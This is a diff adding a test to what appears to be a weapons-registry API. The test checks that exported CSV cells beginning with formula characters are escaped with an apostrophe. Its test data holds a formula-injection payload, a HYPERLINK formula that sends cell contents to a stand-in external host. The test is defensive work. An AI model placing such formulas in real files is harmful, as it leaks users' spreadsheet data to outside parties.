@@ -127,3 +127,24 @@ def test_alerts_and_reconciliation_export_as_csv(client: TestClient, auth_api: A
         "/registry/v1/reconciliation/export.csv", params={"mission": "NOPE"}, headers=sen
     )
     assert unknown.status_code == 422
+
+
+def test_exported_text_that_a_spreadsheet_would_evaluate_is_kept_as_text(
+    client: TestClient, auth_api: AuthApi
+) -> None:
+    sen = auth_api.member_state_headers("SEN")
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    items = [
+        weapon("F-1", markings=hostile, model="+AK", manufacturer="@Izhmash"),
+        weapon("F-2", model="-47"),
+    ]
+    created = client.post(MANIFESTS, json=manifest(items), headers=sen)
+    assert created.status_code == 201, created.text
+    url = f"{MANIFESTS}/{created.json()['id']}/items/export.csv"
+    rows = _rows(client.get(url, headers=sen).text)
+    header, *body = rows
+    cells = [dict(zip(header, row, strict=True)) for row in body]
+    assert cells[0]["markings"] == "'" + hostile
+    assert (cells[0]["model"], cells[0]["manufacturer"]) == ("'+AK", "'@Izhmash")
+    assert cells[1]["model"] == "'-47"
+    assert cells[0]["line"] == "0"  # numbers are numbers
